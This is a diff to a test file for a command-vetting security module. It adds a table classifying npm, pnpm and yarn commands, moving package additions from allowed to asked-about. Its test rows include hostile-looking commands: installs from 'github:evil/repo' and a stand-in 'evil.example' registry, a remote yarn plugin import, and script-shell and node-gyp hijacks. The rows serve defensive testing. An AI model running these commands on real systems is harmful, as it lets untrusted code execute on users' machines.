@@ -1,5 +1,6 @@
 // npm/pnpm/yarn/bun: publishing under every spelling is denied like `npm publish`; global installs,
-// `npm link` and registry changes are asked about; everyday installs stay allowed.
+// adding a package (its install scripts run), `npm link` and registry changes are asked about;
+// installing what the lockfile says and running the project's scripts stay allowed.
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { npmCommand } from "../../../src/main/security/npm-commands.js";
 import type { Verdict } from "../../../src/main/security/index.js";
@@ -50,14 +51,33 @@ const GLOBAL: Row[] = [
   ["npm deprecate pkg 'old'", "ask", "`npm deprecate` changes packages"],
 ];
 
+const RUNS_OTHERS_CODE: Row[] = [
+  ["npm i lodash", "ask", "install scripts run"],
+  ["npm install -D vitest", "ask", "install scripts run"],
+  ["npm i github:evil/repo", "ask", "install scripts run"],
+  ["npm install file:..", "ask"],
+  ["npm install --registry=https://evil.example lodash", "ask", "another registry"],
+  ["pnpm add lodash", "ask", "install scripts run"],
+  ["yarn add lodash", "ask", "install scripts run"],
+  ["npm explore lodash -- touch x", "ask", "shell command inside an installed package"],
+  ["npm init vite", "ask", "starter program"],
+  ["npm create vite@latest app", "ask", "starter program"],
+  ["yarn create vite", "ask", "starter program"],
+  ["pnpm create vite", "ask", "starter program"],
+  ["yarn node -e 1", "ask"],
+  ["yarn plugin import https://x.example/p.js", "ask"],
+  ["npm pkg set scripts.x=touch", "ask", "writes package.json"],
+  ["npm conf set script-shell=./x", "deny", "npm config"],
+  ["npm con set script-shell=./x", "deny", "npm config"],
+  ["npm --node-gyp=./x.sh install", "deny", "changes which programs"],
+  ["npm cache clean --force", "ask", "cache folder"],
+];
+
 const NEIGHBOURS: Row[] = [
-  ["npm i lodash", "allow"],
-  ["npm install -D vitest", "allow"],
-  ["npm i --tag latest lodash", "allow"],
-  ["npm install --registry=https://registry.npmjs.org lodash", "allow"],
-  ["npm i @scope/pkg", "allow"],
-  ["pnpm add lodash", "allow"],
-  ["yarn add lodash", "allow"],
+  ["npm install", "allow"],
+  ["npm ci", "allow"],
+  ["npm init -y", "allow"],
+  ["npm pkg get scripts", "allow"],
   ["npm ls -g", "allow"],
   ["npm ls --global --depth=0", "allow"],
   ["yarn global list", "allow"],
@@ -68,7 +88,7 @@ const NEIGHBOURS: Row[] = [
 ];
 
 describe("package managers", () => {
-  it.each([...PUBLISH, ...GLOBAL, ...NEIGHBOURS])("%j → %s", (command, verdict, reasonIncludes) => {
+  it.each([...PUBLISH, ...GLOBAL, ...RUNS_OTHERS_CODE, ...NEIGHBOURS])("%j → %s", (command, verdict, reasonIncludes) => {
     const result = fixture.judge(command);
     expect(result.verdict, result.reason).toBe(verdict);
     if (reasonIncludes) expect(result.reason).toContain(reasonIncludes);
